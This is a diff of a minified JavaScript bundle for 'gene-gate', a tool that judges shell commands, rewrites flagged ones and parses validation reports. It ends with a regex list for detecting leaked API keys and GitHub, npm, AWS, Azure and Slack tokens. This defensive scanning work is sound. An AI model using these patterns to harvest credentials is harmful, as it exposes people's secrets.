+split(" ")),VT=({command:n,words:e,invocation:t,problems:s},{tree:r})=>{if(t?.program!=="node"||r===void 0)return;const i=s.
+filter(({rule:o})=>YT.has(o));for(const{text:o,span:c}of e.slice(1)){if(!i.some(({span:{start:_}})=>_>=c.start&&_<c.end))
+continue;const B=[o,n.slice(c.start,c.end)].map(_=>QT(r,_)).find(_=>_!==void 0);if(B===void 0)continue;const d=/^[\w./@-]+$/.
+test(B)?B:(0,LT.f)(B),h=n.slice(0,c.start)+d,g=n.slice(c.end),C=o.endsWith(`/${B}`)?o.slice(0,-B.length):void 0,y=C===void 0?
+g:g.replaceAll(` ${C}`," ");return{step:"path made relative",commands:[h+y]}}};function QT(n,e){const t=e.split(/[\\/]/).
 filter(r=>r!==""&&r!==".");return t.map((r,i)=>ft(t.slice(i).join("/"))).slice(1).find(r=>{const i=r===void 0||r===""?void 0:
-At(n,r);return i?.kind==="inside"&&i.entry.tracked&&Wt(i.entry.kind)})}const KT=/^(?:.*\/)?node_modules\/\.bin\/([\w.-]+)$/,
-qT=/^(?:[A-Za-z]:)?[\\/](?:.*[\\/])?(node|npm|npx)(?:\.exe|\.cmd)?$/,YT=n=>{const e=Mm(n,"program-by-path");if(e===void 0)
-return;const{program:t}=e.args,[,s]=KT.exec(t)??[];if(s!==void 0)return ou(n,e,`npx ${s}`);const[,r]=qT.exec(t)??[];return r===
-void 0?void 0:ou(n,e,r)},VT=n=>{const e=Mm(n,"program-look-alike");return e&&ou(n,e,e.args.meant)};function Mm({problems:n},e){
-return n.find(t=>is(t,e))}function ou({command:n},{span:e},t){return{step:"program name corrected",commands:[Zr(n,e,t)]}}
-const QT=["shell-grammar","unquoted-glob"],Gm={command:()=>0,env:()=>0,exec:()=>0,nice:n=>Hm(n,/^-n-?\d+$/,/^-n$/),nohup:()=>0,
-time:()=>0,timeout:n=>Hm(n,/^(?:--preserve-status|--foreground|--(?:signal|kill-after)=\S+)$/,/^-[ks]$/)+1},XT=/^(?:-[aeilux]*c|\/[cC])$/,
-eI=/^(?:-[aeilux]+|--?(?:login|norc|noprofile|posix))$/,tI=n=>{const{command:e,words:t}=n,[s,...r]=t;if(s===void 0||iu(n,
-QT))return;const i=s.text.replace(/^(?:\/[\w.-]+)+\//,"").replace(/\.exe$/i,""),o=zi(i)?nI(r):void 0;if(o!==void 0)return{
-step:"launcher removed",commands:[o]};const c=Object.hasOwn(Gm,i)?Gm[i]?.(r.map(({text:d})=>d)):void 0,l=c===void 0?void 0:
-r[c];return l===void 0?void 0:{step:"launcher removed",commands:[e.slice(0,s.span.start)+e.slice(l.span.start)]}};function nI(n){
-const[e,t]=n.slice(n.findIndex(s=>!eI.test(s.text)));if(!(e===void 0||!XT.test(e.text)))return t===n.at(-1)&&t?.text.trim()?
-t.text.trim():void 0}function Hm(n,e,t){let s=0;for(;;){const r=n[s]??"";if(t?.test(r))s+=2;else if(e.test(r))s+=1;else return s}}
-const sI=({command:n})=>{const e=n.replace(/^[ \t\r\n]+/,"").replace(/(?<![ \t\r\n])[ \t\r\n]+$/,"");return e===""||e===
-n?void 0:{step:"whitespace trimmed",commands:[e]}},rI=/(?:[ \t]+(?:2>[ \t]*&1|[12]?>[ \t]*\/dev\/null))+[ \t]*$/,iI=({command:n,
-problems:e})=>{const s=e.some(({rule:r})=>r==="shell-redirection")?n.replace(rI,""):n;if(!(s===n||Vn(s).problems.length>
-0))return{step:"redirection removed",commands:[s]}},oI=({command:n,problems:e})=>{for(const{rule:t,span:s}of e){const r=n.
+At(n,r);return i?.kind==="inside"&&i.entry.tracked&&Wt(i.entry.kind)})}const XT=/^(?:.*\/)?node_modules\/\.bin\/([\w.-]+)$/,
+eI=/^(?:[A-Za-z]:)?[\\/](?:.*[\\/])?(node|npm|npx)(?:\.exe|\.cmd)?$/,tI=n=>{const e=Gm(n,"program-by-path");if(e===void 0)
+return;const{program:t}=e.args,[,s]=XT.exec(t)??[];if(s!==void 0)return au(n,e,`npx ${s}`);const[,r]=eI.exec(t)??[];return r===
+void 0?void 0:au(n,e,r)},nI=n=>{const e=Gm(n,"program-look-alike");return e&&au(n,e,e.args.meant)};function Gm({problems:n},e){
+return n.find(t=>is(t,e))}function au({command:n},{span:e},t){return{step:"program name corrected",commands:[Wr(n,e,t)]}}
+const sI=["shell-grammar","unquoted-glob"],Hm={command:()=>0,env:()=>0,exec:()=>0,nice:n=>zm(n,/^-n-?\d+$/,/^-n$/),nohup:()=>0,
+time:()=>0,timeout:n=>zm(n,/^(?:--preserve-status|--foreground|--(?:signal|kill-after)=\S+)$/,/^-[ks]$/)+1},rI=/^(?:-[aeilux]*c|\/[cC])$/,
+iI=/^(?:-[aeilux]+|--?(?:login|norc|noprofile|posix))$/,oI=n=>{const{command:e,words:t}=n,[s,...r]=t;if(s===void 0||ou(n,
+sI))return;const i=s.text.replace(/^(?:\/[\w.-]+)+\//,"").replace(/\.exe$/i,""),o=Ji(i)?aI(r):void 0;if(o!==void 0)return{
+step:"launcher removed",commands:[o]};const c=Object.hasOwn(Hm,i)?Hm[i]?.(r.map(({text:d})=>d)):void 0,l=c===void 0?void 0:
+r[c];return l===void 0?void 0:{step:"launcher removed",commands:[e.slice(0,s.span.start)+e.slice(l.span.start)]}};function aI(n){
+const[e,t]=n.slice(n.findIndex(s=>!iI.test(s.text)));if(!(e===void 0||!rI.test(e.text)))return t===n.at(-1)&&t?.text.trim()?
+t.text.trim():void 0}function zm(n,e,t){let s=0;for(;;){const r=n[s]??"";if(t?.test(r))s+=2;else if(e.test(r))s+=1;else return s}}
+const cI=({command:n})=>{const e=n.replace(/^[ \t\r\n]+/,"").replace(/(?<![ \t\r\n])[ \t\r\n]+$/,"");return e===""||e===
+n?void 0:{step:"whitespace trimmed",commands:[e]}},uI=/(?:[ \t]+(?:2>[ \t]*&1|[12]?>[ \t]*\/dev\/null))+[ \t]*$/,lI=({command:n,
+problems:e})=>{const s=e.some(({rule:r})=>r==="shell-redirection")?n.replace(uI,""):n;if(!(s===n||Vn(s).problems.length>
+0))return{step:"redirection removed",commands:[s]}},dI=({command:n,problems:e})=>{for(const{rule:t,span:s}of e){const r=n.
 slice(s.end).trim()==="";if(t==="shell-comment"&&!/[\r\n]/.test(n.slice(s.start))||t==="shell-operator"&&r&&n.slice(s.start,
-s.end)===";")return{step:"comment removed",commands:[ru(n,s)]};if(t==="line-continuation")return{step:"whitespace trimme\
-d",commands:[Zr(n,s,"")]}}},aI=new Set(["echo","printf","true",":","pwd","date"]),cI=n=>aI.has(n.words[0]?.text??"")&&!iu(
-n)?{reason:fn.Ot.cannotFail()}:void 0,uI=({command:n,problems:e})=>{if(au(n).some(({text:s})=>/^\(?cd(?:[ \t]|$)/.test(s)))
-return{reason:fn.Ot.changesDirectory()};if(!e.some(({rule:s})=>s==="shell-operator"))return;const t=zm(n);return t&&{step:"\
-split at &&",commands:t.map(({text:s})=>s)}};function au(n){const e=jn(n);return n.slice(0,e[0]?.span.start).trim()!==""?
-[]:e.map(({span:t,separator:s})=>({text:n.slice(t.start,t.end).trim(),operator:s.trim()}))}function zm(n){const e=au(n),
-t=e.every(({operator:s},r)=>s===(e[r+1]?"&&":""));return e.length>1&&t?e:void 0}const lI=/^(?:tee|cat|head|tail|less|more|grep|sort|wc)(?:[ \t]|$)/,
-dI=/^(?:true|:|echo(?:[ \t].*)?|exit[ \t]+0)$/,BI=8,fI=({command:n,problems:e})=>{if(!e.some(({rule:r})=>r==="shell-oper\
-ator"||r==="line-break"))return;const t=au(n);if(t.length===0||t.length>BI)return;const s=[];for(const[r,{text:i}]of t.entries()){
-const o=t[r-1]?.operator??"",c=o==="||"&&dI.test(i),l=/^\|&?$/.test(o)&&lI.test(i);if(!(c||l)){if(!/^(?:|&&|[;\n]*)$/.test(
+s.end)===";")return{step:"comment removed",commands:[iu(n,s)]};if(t==="line-continuation")return{step:"whitespace trimme\
+d",commands:[Wr(n,s,"")]}}},BI=new Set(["echo","printf","true",":","pwd","date"]),fI=n=>BI.has(n.words[0]?.text??"")&&!ou(
+n)?{reason:fn.Ot.cannotFail()}:void 0,hI=({command:n,problems:e})=>{if(cu(n).some(({text:s})=>/^\(?cd(?:[ \t]|$)/.test(s)))
+return{reason:fn.Ot.changesDirectory()};if(!e.some(({rule:s})=>s==="shell-operator"))return;const t=Um(n);return t&&{step:"\
+split at &&",commands:t.map(({text:s})=>s)}};function cu(n){const e=jn(n);return n.slice(0,e[0]?.span.start).trim()!==""?
+[]:e.map(({span:t,separator:s})=>({text:n.slice(t.start,t.end).trim(),operator:s.trim()}))}function Um(n){const e=cu(n),
+t=e.every(({operator:s},r)=>s===(e[r+1]?"&&":""));return e.length>1&&t?e:void 0}const pI=/^(?:tee|cat|head|tail|less|more|grep|sort|wc)(?:[ \t]|$)/,
+mI=/^(?:true|:|echo(?:[ \t].*)?|exit[ \t]+0)$/,gI=8,CI=({command:n,problems:e})=>{if(!e.some(({rule:r})=>r==="shell-oper\
+ator"||r==="line-break"))return;const t=cu(n);if(t.length===0||t.length>gI)return;const s=[];for(const[r,{text:i}]of t.entries()){
+const o=t[r-1]?.operator??"",c=o==="||"&&mI.test(i),l=/^\|&?$/.test(o)&&pI.test(i);if(!(c||l)){if(!/^(?:|&&|[;\n]*)$/.test(
 o)||i.startsWith("cd "))return;s.push(i)}}if(/^[&;\s]*$/.test(t.at(-1)?.operator??"")&&!(s.length===0||s.join()===n))return An(
-...s)},hI=/^(?:npm|pnpm|yarn|bun)[ \t]+(?:ci|i|install)(?:[ \t]+-\S+)*$|^yarn$/,pI=/^set[ \t]+-[a-z]+(?:[ \t]+pipefail)?$/,
-mI=({command:n})=>{const e=zm(n)?.map(({text:s})=>s),t=e?.filter(s=>!hI.test(s)&&!pI.test(s))??[];if(!(e===void 0||t.length===
-0||t.length===e.length))return An(...t)},gI=/(?<![ \t])[ \t]+(?:[12&]?>>?[ \t]*[\w./-]+|2>[ \t]*&1|<[ \t]*\/dev\/null)(?=[ \t]|$)/g,
-CI=({command:n,problems:e})=>{if(!e.some(({rule:s})=>s==="shell-redirection"))return;const t=n.replace(gI,"");return t===
-n?void 0:An(t)},yI=n=>{const{command:e,problems:t,invocation:s}=n;for(const{rule:r,span:i}of t){if(!(0,gs.Y)(r).removable||
+...s)},yI=/^(?:npm|pnpm|yarn|bun)[ \t]+(?:ci|i|install)(?:[ \t]+-\S+)*$|^yarn$/,wI=/^set[ \t]+-[a-z]+(?:[ \t]+pipefail)?$/,
+bI=({command:n})=>{const e=Um(n)?.map(({text:s})=>s),t=e?.filter(s=>!yI.test(s)&&!wI.test(s))??[];if(!(e===void 0||t.length===
+0||t.length===e.length))return An(...t)},_I=/(?<![ \t])[ \t]+(?:[12&]?>>?[ \t]*[\w./-]+|2>[ \t]*&1|<[ \t]*\/dev\/null)(?=[ \t]|$)/g,
+EI=({command:n,problems:e})=>{if(!e.some(({rule:s})=>s==="shell-redirection"))return;const t=n.replace(_I,"");return t===
+n?void 0:An(t)},vI=n=>{const{command:e,problems:t,invocation:s}=n;for(const{rule:r,span:i}of t){if(!(0,gs.Y)(r).removable||
 e[i.start]!=="-")continue;const o=e.slice(i.start,i.end),c=e.slice(i.end).trimStart(),l=!/[=\s]/.test(o)&&c!==""&&!c.startsWith(
-"-"),B=s?.flags.some(d=>d.span.start===i.start)===!0;if(!(l&&!B))return An(ru(e,i))}},wI=({command:n,problems:e,invocation:t})=>{
+"-"),B=s?.flags.some(d=>d.span.start===i.start)===!0;if(!(l&&!B))return An(iu(e,i))}},kI=({command:n,problems:e,invocation:t})=>{
 const s=e.find(c=>is(c,"unknown-flag")),r=t?.program==="npm"&&t.subcommand!=="exec";if(s===void 0||!r||t.passthrough.length>
-0)return;const i=ru(n,s.span),o=n.slice(s.span.start,s.span.end);return An(`${i.trimEnd()} -- ${o}`)},bI=({command:n,words:e,
+0)return;const i=iu(n,s.span),o=n.slice(s.span.start,s.span.end);return An(`${i.trimEnd()} -- ${o}`)},DI=({command:n,words:e,
 problems:t,invocation:s})=>{if(!t.some(({rule:c})=>c==="uses-network")||s?.program!=="npx")return;const i=e.slice(1).find(
 ({text:c})=>/^(?:@[\w.-]+\/)?[\w.-]+@[\w.^~<>=*-]+$/.test(c));if(i===void 0)return;const o=i.text.slice(0,i.text.lastIndexOf(
-"@"));return An(Zr(n,i.span,o))},Um=new Set(["test","start","stop"]),_I=new Set(["pnpm","yarn","bun","npm"]),EI=async({command:n,
-problems:e,words:t,invocation:s},r)=>{if(s?.program!=="npm")return;const i=await Jm(r),o=e.find(C=>is(C,"npm-script-miss\
-ing"));if(o!==void 0){const C=Ni(o.args.script,i),y=t.find(({text:_})=>_===o.args.script);return C===void 0||y===void 0?
-void 0:An(Zr(n,y.span,C))}const c=e.find(C=>is(C,"unknown-subcommand"));if(c===void 0)return;const{subcommand:l,meant:B}=c.
-args,d=B===""?Ni(l,[...Um]):B,h=[...i.includes(l)?[`run ${l}`]:[],...d===void 0?[]:[d]],[g]=h;return g===void 0?void 0:An(
-Zr(n,c.span,g))},vI=async({command:n,words:e,problems:t},s)=>{const r=t.some(({rule:h})=>h==="program-not-allowed"),[i,o,
-c]=e;if(!r||i===void 0||o===void 0||!_I.has(i.text)||i.text==="bun"&&/^(?:test|build)$/.test(o.text))return;const l=o.text===
-"run"?c:o;if(l===void 0||!(await Jm(s)).includes(l.text))return;const B=Um.has(l.text)?l.text:`run ${l.text}`,d=n.slice(
-l.span.end).trim();return An(`npm ${B}${d===""?"":` -- ${d}`}`)},kI=({command:n,words:e,problems:t},{tree:s})=>{const r=t.
+"@"));return An(Wr(n,i.span,o))},Jm=new Set(["test","start","stop"]),xI=new Set(["pnpm","yarn","bun","npm"]),OI=async({command:n,
+problems:e,words:t,invocation:s},r)=>{if(s?.program!=="npm")return;const i=await Zm(r),o=e.find(C=>is(C,"npm-script-miss\
+ing"));if(o!==void 0){const C=Fi(o.args.script,i),y=t.find(({text:_})=>_===o.args.script);return C===void 0||y===void 0?
+void 0:An(Wr(n,y.span,C))}const c=e.find(C=>is(C,"unknown-subcommand"));if(c===void 0)return;const{subcommand:l,meant:B}=c.
+args,d=B===""?Fi(l,[...Jm]):B,h=[...i.includes(l)?[`run ${l}`]:[],...d===void 0?[]:[d]],[g]=h;return g===void 0?void 0:An(
+Wr(n,c.span,g))},AI=async({command:n,words:e,problems:t},s)=>{const r=t.some(({rule:h})=>h==="program-not-allowed"),[i,o,
+c]=e;if(!r||i===void 0||o===void 0||!xI.has(i.text)||i.text==="bun"&&/^(?:test|build)$/.test(o.text))return;const l=o.text===
+"run"?c:o;if(l===void 0||!(await Zm(s)).includes(l.text))return;const B=Jm.has(l.text)?l.text:`run ${l.text}`,d=n.slice(
+l.span.end).trim();return An(`npm ${B}${d===""?"":` -- ${d}`}`)},SI=({command:n,words:e,problems:t},{tree:s})=>{const r=t.
 find(({rule:h})=>h==="program-not-allowed"),[i,o,c]=e;if(r===void 0||i===void 0||s===void 0)return;const l=/^(?:pnpm|yarn|bun|bunx|pnpx)$/.
 test(i.text),B=/^(?:exec|dlx|x)$/.test(o?.text??"")?c:o,d=l?/^(?:bunx|pnpx)$/.test(i.text)?o:B:i;return d===void 0||!/^[a-z][\w.-]*$/.
-test(d.text)?void 0:An(`npx ${n.slice(d.span.start)}`)},DI=({command:n})=>{const[,e,t]=/^cd[ \t]+([\w./@-]+)[ \t]*&&[ \t]*(npm[ \t][^;&|<>]*)$/.
+test(d.text)?void 0:An(`npx ${n.slice(d.span.start)}`)},TI=({command:n})=>{const[,e,t]=/^cd[ \t]+([\w./@-]+)[ \t]*&&[ \t]*(npm[ \t][^;&|<>]*)$/.
 exec(n)??[];if(e===void 0||t===void 0)return;const[,s=t,r=""]=/^(.*?)((?<![ \t])[ \t]+--(?:[ \t].*)?)?$/.exec(t.trim())??
-[];return An(`${s} -w ${e.replace(/\/$/,"")}${r}`)};async function Jm({tree:n}){return[...(n&&await xn(n,""))?.scripts.keys()??
-[]]}const Zm=6,xI=200;async function cu(n,e,t={}){return new OI(e,t).rewrite(n,Zm)}class OI{#e;#t;#s;#i=xI;constructor(e,{
-rewrites:t=Qm,accepts:s=()=>!0}){this.#e=e,this.#t=t,this.#s=s}async rewrite(e,t){this.#i-=1;const s=await this.#e.judge.
-command(e),{reading:r,verdict:i,findings:o}=s;if(i==="allow")return{kind:"fine"};const c=Ep(e)?.does;if(c!==void 0&&i===
+[];return An(`${s} -w ${e.replace(/\/$/,"")}${r}`)};async function Zm({tree:n}){return[...(n&&await xn(n,""))?.scripts.keys()??
+[]]}const Wm=6,II=200;async function uu(n,e,t={}){return new $I(e,t).rewrite(n,Wm)}class $I{#e;#t;#s;#i=II;constructor(e,{
+rewrites:t=Xm,accepts:s=()=>!0}){this.#e=e,this.#t=t,this.#s=s}async rewrite(e,t){this.#i-=1;const s=await this.#e.judge.
+command(e),{reading:r,verdict:i,findings:o}=s;if(i==="allow")return{kind:"fine"};const c=vp(e)?.does;if(c!==void 0&&i===
 "block")return{kind:"left",reason:fn.Ot.dangerous(c)};let l;for(const h of t>0&&this.#i>0?this.#t:[]){const g=await h(r,
-this.#e);if(g===void 0)continue;if("reason"in g){l??=g.reason;continue}const C=await this.#r(g.commands,t-1),y=AI(g,C);if(y.
-kind==="left")l??=y.reason;else return y}const[B]=o,d=t===Zm||this.#s(s);return B===void 0||i==="warn"&&d?{kind:"fine"}:
-{kind:"left",reason:l??(0,fn.A3)(B)}}async#r(e,t){const s=[];for(const r of e){if(s.some(Wm)||this.#i<=0)break;s.push(await this.
-rewrite(r,t))}return s}}function Wm(n){return n.kind==="left"&&n.reason.id!==fn.Vt}function AI(n,e){const t=e.find(Wm);if(t!==
+this.#e);if(g===void 0)continue;if("reason"in g){l??=g.reason;continue}const C=await this.#r(g.commands,t-1),y=RI(g,C);if(y.
+kind==="left")l??=y.reason;else return y}const[B]=o,d=t===Wm||this.#s(s);return B===void 0||i==="warn"&&d?{kind:"fine"}:
+{kind:"left",reason:l??(0,fn.A3)(B)}}async#r(e,t){const s=[];for(const r of e){if(s.some(Km)||this.#i<=0)break;s.push(await this.
+rewrite(r,t))}return s}}function Km(n){return n.kind==="left"&&n.reason.id!==fn.Vt}function RI(n,e){const t=e.find(Km);if(t!==
 void 0)return t;const s=e.flatMap((i,o)=>{if(i.kind==="left")return[];const c=n.commands[o]??"";return i.kind==="fixed"?
 [i]:[{commands:[c],steps:[],scripts:[]}]}),r=e.find(i=>i.kind==="left");return s.length===0||e.length<n.commands.length?
 r??{kind:"left",reason:fn.Ot.tooLong()}:{kind:"fixed",commands:s.flatMap(({commands:i})=>i),steps:[n.step,...r===void 0?
 []:["command that only prints removed"],...s.flatMap(({steps:i})=>i)],scripts:[...n.scripts??[],...s.flatMap(({scripts:i})=>i)]}}
-const uu=16*1024;async function SI(n,e){const t=[];for(const i of n){const o=typeof i=="string"&&i.length<=uu;t.push(o?await cu(
-i,e):{kind:"fine"})}const s=new Set((await Km(n,e)).flat()),r=await Promise.all(t.map(async i=>(i.kind==="fixed"?(await Km(
-i.commands,e)).flat():[]).some(l=>!s.has(l))?{kind:"left",reason:fn.Ot.addsProblems()}:i));return II(n,await TI(n,r,e))}
-function Km(n,{judge:e}){return Promise.all(n.map(async t=>{const{findings:s}=await e.command(t);return s.flatMap(({rule:r,
-severity:i})=>i==="notice"?[]:r)}))}async function TI(n,e,t){return e.some(Vm)&&(await Promise.all(e.map(async(r,i)=>{if(r.
+const lu=16*1024;async function NI(n,e){const t=[];for(const i of n){const o=typeof i=="string"&&i.length<=lu;t.push(o?await uu(
+i,e):{kind:"fine"})}const s=new Set((await qm(n,e)).flat()),r=await Promise.all(t.map(async i=>(i.kind==="fixed"?(await qm(
+i.commands,e)).flat():[]).some(l=>!s.has(l))?{kind:"left",reason:fn.Ot.addsProblems()}:i));return PI(n,await FI(n,r,e))}
+function qm(n,{judge:e}){return Promise.all(n.map(async t=>{const{findings:s}=await e.command(t);return s.flatMap(({rule:r,
+severity:i})=>i==="notice"?[]:r)}))}async function FI(n,e,t){return e.some(Qm)&&(await Promise.all(e.map(async(r,i)=>{if(r.
 kind==="fixed")return!0;if(r.kind==="left")return!1;const{findings:o,verdict:c}=await t.judge.command(n[i]);return c!=="\
-block"&&!o.some(({rule:l})=>l==="only-prints")}))).includes(!0)?e.map(r=>Vm(r)?$I:r):e}function II(n,e){const t=new Set,
-s=new Set;return e.map((r,i)=>{const o=n[i];if(r.kind!=="fixed")return t.add(o),s.has(o)?qm:r;const c=r.commands.filter(
+block"&&!o.some(({rule:l})=>l==="only-prints")}))).includes(!0)?e.map(r=>Qm(r)?LI:r):e}function PI(n,e){const t=new Set,
+s=new Set;return e.map((r,i)=>{const o=n[i];if(r.kind!=="fixed")return t.add(o),s.has(o)?Ym:r;const c=r.commands.filter(
 l=>!t.has(l)&&t.add(l));for(const l of c)s.add(l);return c.length===r.commands.length?r:{...r,commands:c,steps:[...r.steps,
-...qm.steps]}})}const $I=Ym("command that only prints removed"),qm=Ym("repeated command removed");function Ym(n){return{
-kind:"fixed",commands:[],steps:[n],scripts:[]}}function Vm(n){return n.kind==="left"&&n.reason.id===fn.Vt}const Qm=[sI,LT,
-iI,oI,uI,cI,tI,YT,VT,ZT],RI=[...Qm,mI,DI,fI,CI,EI,wI,bI,yI,vI,kI],NI=new Set("checks-syntax-only npm-script-missing only\
--prints target-missing".split(" "));async function FI(n,e,t){if(n.every(({verdict:c})=>c==="allow"))return n;const s=n.map(
-({reading:c})=>c.command),r=new su(e),i=s.map(c=>c.length>uu?"":c),o=t?await SI(i,r):[];return Promise.all(n.map(async(c,l)=>{
-const{command:B}=c.reading;if(c.verdict==="allow"||B.length>uu)return c;const d=o[l];return d?.kind==="fixed"?eg(c,Xm(B,
-d,r),r.judge):LI(c,e,d)}))}async function PI(n,e){const[t=n]=await FI([n],e,!1);return t}function Xm(n,{commands:e,scripts:t},s){
+...Ym.steps]}})}const LI=Vm("command that only prints removed"),Ym=Vm("repeated command removed");function Vm(n){return{
+kind:"fixed",commands:[],steps:[n],scripts:[]}}function Qm(n){return n.kind==="left"&&n.reason.id===fn.Vt}const Xm=[cI,zT,
+lI,dI,hI,fI,oI,tI,nI,VT],jI=[...Xm,bI,TI,CI,EI,OI,kI,DI,vI,AI,SI],MI=new Set("checks-syntax-only npm-script-missing only\
+-prints target-missing".split(" "));async function GI(n,e,t){if(n.every(({verdict:c})=>c==="allow"))return n;const s=n.map(
+({reading:c})=>c.command),r=new ru(e),i=s.map(c=>c.length>lu?"":c),o=t?await NI(i,r):[];return Promise.all(n.map(async(c,l)=>{
+const{command:B}=c.reading;if(c.verdict==="allow"||B.length>lu)return c;const d=o[l];return d?.kind==="fixed"?tg(c,eg(B,
+d,r),r.judge):zI(c,e,d)}))}async function HI(n,e){const[t=n]=await GI([n],e,!1);return t}function eg(n,{commands:e,scripts:t},s){
 const r=t.map(i=>s.pathOf(i)).flatMap(i=>{const o=s.textOf(i);return o===void 0?[]:[{path:i,text:o}]});return{old:n,new:e,
-...r.length>0&&{files:r},fix:!0}}async function LI(n,e,t){const{command:s}=n.reading,r=t??await cu(s,new su(e));if(r.kind===
-"left"&&fn.CT.has(r.reason.id))return jI(n,r.reason.remedy);const i=new su(e),o=await cu(s,i,{rewrites:RI,accepts:({findings:c})=>!c.
-some(({rule:l})=>NI.has(l))});return o.kind!=="fixed"?n:eg(n,{...Xm(s,o,i),fix:!1},i.judge)}function jI(n,e){const[t,...s]=n.
-findings;return t?{...n,findings:[{...t,advice:e},...s]}:n}async function eg(n,e,t){const{findings:s,verdict:r}=n,i=await Promise.
+...r.length>0&&{files:r},fix:!0}}async function zI(n,e,t){const{command:s}=n.reading,r=t??await uu(s,new ru(e));if(r.kind===
+"left"&&fn.CT.has(r.reason.id))return UI(n,r.reason.remedy);const i=new ru(e),o=await uu(s,i,{rewrites:jI,accepts:({findings:c})=>!c.
+some(({rule:l})=>MI.has(l))});return o.kind!=="fixed"?n:tg(n,{...eg(s,o,i),fix:!1},i.judge)}function UI(n,e){const[t,...s]=n.
+findings;return t?{...n,findings:[{...t,advice:e},...s]}:n}async function tg(n,e,t){const{findings:s,verdict:r}=n,i=await Promise.
 all(e.new.map(h=>t.command(h)));if(i.some(h=>h.verdict==="block"))return n;const o=new Set(s.map(({rule:h})=>h)),c=i.flatMap(
 h=>h.findings).flatMap(({rule:h,severity:g})=>g==="notice"?[]:h),l=c.some(h=>!o.has(h));if(r==="warn"&&l)return n;const B=({
 rule:h,severity:g})=>r==="block"?g==="error":!c.includes(h),d=s.find(B);return d===void 0?n:{...n,findings:s.map(h=>h===
-d?{...h,edit:e}:h)}}const MI=sn(import.meta.url)("node:util");function GI(n){if(!mn(n)||n.type!=="ValidationReport")return;
-const e=typeof n.overall_ok=="boolean"?"protocol":"results",t=e==="protocol"?n.commands:n.results;if(!Array.isArray(t))return;
-const s=t.map(tg);return{shape:e,id:Rs(n.id),geneId:Rs(n.gene_id),commands:s,ok:n.overall_ok!==!1&&s.length>0&&s.every(({
-ok:r})=>r),contradictory:Array.isArray(n.commands)&&Array.isArray(n.results)&&!(0,MI.isDeepStrictEqual)(n.commands.map(ng),
-n.results.map(ng)),durationMs:lu(n.duration_ms)??HI(n),hash:ys({type:"ValidationReport",value:n})??null,differences:Rd("\
-ValidationReport",n)}}function tg(n){const{command:e,cmd:t,ok:s,duration_ms:r,err:i,stderr:o,proof:c}=mn(n)?n:{},l=Rs(e)??
-Rs(t);return{command:l??"",ok:s===!0&&l!==null,durationMs:lu(r),error:Rs(i)??Rs(o),proof:mn(c??null)?Rs(c.outcome):null}}
-function ng(n){const{command:e,ok:t}=tg(n);return[e,t]}function HI({started_at:n,finished_at:e}){const[t,s]=[n,e].map(r=>typeof r==
-"string"?Date.parse(r):lu(r));return typeof t=="number"&&typeof s=="number"&&s>=t?s-t:null}function Rs(n){return typeof n==
-"string"?n:null}function lu(n){return typeof n=="number"?n:null}const Eo={name:"gene-gate",version:"0.1.0"},EF="https://\
-github.com/gene-gate/gene-gate",vF=null,zI=String.raw`
+d?{...h,edit:e}:h)}}function JI(n){if(!mn(n)||n.type!=="ValidationReport")return;const e=typeof n.overall_ok=="boolean"?
+"protocol":"results",t=e==="protocol"?n.commands:n.results;if(!Array.isArray(t))return;const s=t.map(ng);return{shape:e,
+id:Rs(n.id),geneId:Rs(n.gene_id),commands:s,ok:n.overall_ok!==!1&&s.length>0&&s.every(({ok:r})=>r),contradictory:Array.isArray(
+n.commands)&&Array.isArray(n.results)&&!(0,EE.isDeepStrictEqual)(n.commands.map(sg),n.results.map(sg)),durationMs:du(n.duration_ms)??
+ZI(n),hash:ys({type:"ValidationReport",value:n})??null,differences:Nd("ValidationReport",n)}}function ng(n){const{command:e,
+cmd:t,ok:s,duration_ms:r,err:i,stderr:o,proof:c}=mn(n)?n:{},l=Rs(e)??Rs(t);return{command:l??"",ok:s===!0&&l!==null,durationMs:du(
+r),error:Rs(i)??Rs(o),proof:mn(c??null)?Rs(c.outcome):null}}function sg(n){const{command:e,ok:t}=ng(n);return[e,t]}function ZI({
+started_at:n,finished_at:e}){const[t,s]=[n,e].map(r=>typeof r=="string"?Date.parse(r):du(r));return typeof t=="number"&&
+typeof s=="number"&&s>=t?s-t:null}function Rs(n){return typeof n=="string"?n:null}function du(n){return typeof n=="numbe\
+r"?n:null}const ko={name:"gene-gate",version:"0.1.0"},xF="https://github.com/gene-gate/gene-gate",OF=null,WI=String.raw`
   sk-(?:ant|or|proj|svcacct|admin|lf|None)- gsk_ hf_ api_org_ pplx- xai- r8_ tvly- bedrock-api-key-
   ABSK nvapi- pcsk_ lsv2_(?:pt|sk)_
   GR1348941 AT[AC]TT3 ATBB pypi-AgE rubygems_ CLOJARS_ dckr_(?:pat|oat)_ AKCp cmVmd sgp_ snyk_
@@ -7252,102 +7259,102 @@ github.com/gene-gate/gene-gate",vF=null,zI=String.raw`
   duffel_(?:live|test)_ EZ[AT]K access-(?:sandbox|development|production)- xoxe\.xox[bp]- SG\. xkeysib-
   key-(?=[0-9a-f]{32}) SK(?=[0-9a-fA-F]{32}) \d{8,10}:AA fio-u- tfp_ p8e- s-s4t2(?:ud|af)- sm_[aps]at_
   AGE-SECRET-KEY-1 A3-[A-Z0-9]{6}-
-`,UI=new RegExp(`\\b(?:${zI.trim().split(/\s+/).join("|")})(?=[\\w.~+/=-]{0,63}\\d)[\\w.~+/=-]{16,}`,"dg"),kF=[["github \
+`,KI=new RegExp(`\\b(?:${WI.trim().split(/\s+/).join("|")})(?=[\\w.~+/=-]{0,63}\\d)[\\w.~+/=-]{16,}`,"dg"),AF=[["github \
 token",/gh[pousr]_[A-Za-z0-9][\w.-]{19,}/dg],["github token",/github_pat_\w{20,}/dg],["gitlab token",/gl(?:pat|dt|ft|rt|cbt|ptt|imt|agent|oas|soat|ffct)-[\w-]{20,}/dg],
 ["gitlab token",/_gitlab_session=([0-9a-z]{32})/dg],["npm token",/npm_[A-Za-z0-9]{30,}/dg],["npm token",/_(?:authToken|auth|password)[ \t]{0,8}=[ \t]{0,8}(?!\[redacted )(\S{8,})/dg],
 ["aws key",/(?:AKIA|ASIA|ABIA|ACCA|A3T[A-Z0-9])[A-Z0-9]{16}/dg],["aws secret",/aws_secret_access_key["']?[ \t]{0,8}[:=][ \t]{0,8}["']?([\w/+=]{40})/dgi],
 ["azure secret",/[\w~.]{3}\dQ~[\w.~-]{31,34}/dg],["azure secret",/(?:AccountKey|SharedAccessKey)=([\w+/]{40,}={0,2})/dgi],
 ["slack token",/(?:xox[abeoprs]|xapp)-[A-Za-z0-9-]{10,}/dg],["slack webhook",/hooks\.slack\.com\/(?:services|workflows|triggers)\/([\w/]{20,})/dg],
